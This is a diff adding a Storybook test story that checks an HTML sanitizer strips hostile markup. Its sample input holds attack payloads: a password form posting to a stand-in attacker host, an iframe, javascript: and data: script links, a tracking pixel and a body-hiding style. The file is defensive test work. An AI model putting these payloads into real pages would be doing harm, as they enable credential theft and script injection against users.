@@ -59,4 +59,37 @@ export const UnsafeMarkupRemoved: Story = {
   },
 };
 
+export const HostileMarkup: Story = {
+  args: {
+    html:
+      '<h2>Our partners</h2>' +
+      '<p id="root" class="rj8x8a0">See the partner list <a href="https://example.com/partners" target="_self">on their site</a>' +
+      ' or <a href="/contact-us">ask us</a>.</p>' +
+      '<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Send</button></form>' +
+      '<iframe src="https://evil.example/"></iframe><dialog open>You won a prize!</dialog>' +
+      '<svg><a xlink:href="javascript:alert(1)"><text y="20">Click</text></a></svg>' +
+      '<video src="https://evil.example/v.mp4" autoplay></video>' +
+      '<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">' +
+      '<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">A data link</a></p>' +
+      '<style>body { display: none }</style>',
+  },
+  play: async ({ canvasElement }) => {
+    const canvas = within(canvasElement);
+    await expect(canvas.getByRole('heading', { level: 2, name: 'Our partners' })).toBeInTheDocument();
+    await expect(
+      canvasElement.querySelector('form, input, button, iframe, dialog, svg, video, style, img'),
+    ).toBeNull();
+    await expect(canvas.queryByText('You won a prize!')).toBeNull();
+    // The server's ids and classes cannot take the app's.
+    const paragraph = canvas.getByText(/See the partner list/);
+    await expect(paragraph).toHaveAttribute('id', 'user-content-root');
+    await expect(paragraph).not.toHaveAttribute('class');
+    const external = canvas.getByRole('link', { name: 'on their site' });
+    await expect(external).toHaveAttribute('target', '_blank');
+    await expect(external).toHaveAttribute('rel', 'noopener noreferrer');
+    await expect(canvas.getByRole('link', { name: 'ask us' })).not.toHaveAttribute('target');
+    await expect(canvas.getByText('A data link')).not.toHaveAttribute('href');
+  },
+};
+
 export const Empty: Story = { args: { html: '' } };
